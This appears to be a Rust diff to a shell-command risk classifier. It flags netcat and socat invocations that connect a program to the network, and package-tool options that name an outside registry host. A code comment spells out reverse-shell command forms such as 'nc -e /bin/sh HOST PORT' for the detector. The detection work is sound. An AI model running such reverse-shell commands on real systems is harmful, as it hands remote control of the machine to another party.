@@ -47,6 +47,27 @@ pub(super) fn network(input: &Input<'_>) -> Verdict {
     let p = input.program;
     let mut v = Verdict::new(Risk::High, format!("Runs {p}, which talks to the network."));
     let args = input.args;
+    // `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:sh`: a program whose input
+    // and output are the connection runs whatever the other end sends.
+    let connects_a_program = match p {
+        "nc" | "ncat" | "netcat" => args.iter().any(|a| {
+            matches!(
+                a.text.as_str(),
+                "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
+            )
+        }),
+        "socat" => args.iter().any(|a| {
+            let t = a.text.to_ascii_uppercase();
+            t.starts_with("EXEC:") || t.starts_with("SYSTEM:")
+        }),
+        _ => false,
+    };
+    if connects_a_program {
+        v.raise(
+            Risk::Critical,
+            format!("Runs {p} with a program connected to the network, which runs whatever the other end sends."),
+        );
+    }
     if matches!(p, "rsync" | "scp") {
         copy_destination(&mut v, input);
     }
@@ -86,6 +107,49 @@ pub(super) fn network(input: &Input<'_>) -> Verdict {
 /// Package managers and language tool chains: installs and publishing are High
 /// (they run code from the network), everything else Medium (build and test).
 pub(super) fn package_tool(input: &Input<'_>) -> Verdict {
+    let mut v = package_tool_command(input);
+    if let Some(flag) = names_a_host(input) {
+        v.raise(
+            Risk::High,
+            format!(
+                "Runs {} with {flag}, which contacts a registry or index the command names and \
+                 can send data to it.",
+                input.program
+            ),
+        );
+    }
+    v
+}
+
+/// Options of package tools that name the host they contact (`--registry`,
+/// `--index-url`, `--extra-index-url`, `-i`, `--find-links`, `--source`, ...): even a
+/// reading subcommand (`npm view`, `cargo search`) then talks to a host the command
+/// picks.
+fn names_a_host(input: &Input<'_>) -> Option<String> {
+    const HOST_OPTIONS: &[&str] = &[
+        "--registry",
+        "--index",
+        "--index-url",
+        "--extra-index-url",
+        "--default-index",
+        "--find-links",
+        "--source",
+        "--proxy",
+        "--trusted-host",
+        "--repository",
+        "--repository-url",
+        "--url",
+    ];
+    input.args.iter().enumerate().find_map(|(i, a)| {
+        let name = a.text.split_once('=').map_or(a.text.as_str(), |(n, _)| n);
+        let short = matches!(input.program, "pip" | "pip3" | "uv")
+            && matches!(a.text.as_str(), "-i" | "-f")
+            && input.args.get(i + 1).is_some();
+        (HOST_OPTIONS.contains(&name) || short).then(|| name.to_owned())
+    })
+}
+
+fn package_tool_command(input: &Input<'_>) -> Verdict {
     let p = input.program;
     let sub = input
         .args
